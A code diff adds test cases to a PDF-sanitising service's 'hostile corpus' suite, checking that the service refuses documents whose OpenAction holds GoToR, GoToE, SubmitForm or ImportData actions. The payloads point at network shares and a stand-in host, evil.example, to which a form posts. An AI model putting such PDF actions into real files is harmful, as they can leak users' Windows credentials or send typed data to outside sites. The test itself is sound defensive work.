@@ -167,6 +167,51 @@ describe("prepareDocument: the hostile corpus", () => {
     });
   });
 
+  // Actions that reach outside the document: a link to another file (on a network share it
+  // hands over the visitor's Windows sign-in), a form that sends what is typed, a data import.
+  // A file's name cannot be told from a share or web address in every spelling (escapes, hex
+  // strings, file specification dictionaries, references), so every such link is refused.
+  const otherFile = "a link that opens another file (it can reach a network share or website)";
+  it.each([
+    [
+      "a link to a file on a network share",
+      "/S /GoToR /F (\\\\\\\\server\\\\share\\\\a.pdf) /D [0 /Fit]",
+      otherFile,
+    ],
+    [
+      "a link to a file on a website",
+      "/S /GoToR /F << /FS /URL /F (https://evil.example/a.pdf) >> /D [0 /Fit]",
+      otherFile,
+    ],
+    ["a link to a file by its name", "/S /GoToR /F (prices.pdf) /D [0 /Fit]", otherFile],
+    [
+      "a link into a file embedded elsewhere",
+      "/S /GoToE /F (http://evil.example/a.pdf) /T << /R /C /N (x) >>",
+      otherFile,
+    ],
+    [
+      "a link whose kind is written with #xx escapes",
+      "/S /GoTo#52 /F (\\\\\\\\server\\\\a.pdf)",
+      otherFile,
+    ],
+    [
+      "a form that sends what is typed",
+      "/S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >>",
+      "a form that sends what is typed into it (it can send it to any website)",
+    ],
+    [
+      "a data import",
+      "/S /ImportData /F (\\\\\\\\server\\\\share\\\\data.fdf)",
+      "a data import action (it can read a file from the visitor's computer)",
+    ],
+  ])("refuses %s", async (_label, action, what) => {
+    const bytes = pagesPdf(1, { catalog: `/OpenAction << ${action} >>` });
+    expect(await refusal(bytes)).toEqual({
+      status: 415,
+      message: apiErrorMessages.pdfActive(what),
+    });
+  });
+
   it("refuses an embedded file, and names everything it found", async () => {
     const file = firstExtraObject(1);
     const bytes = pagesPdf(1, {
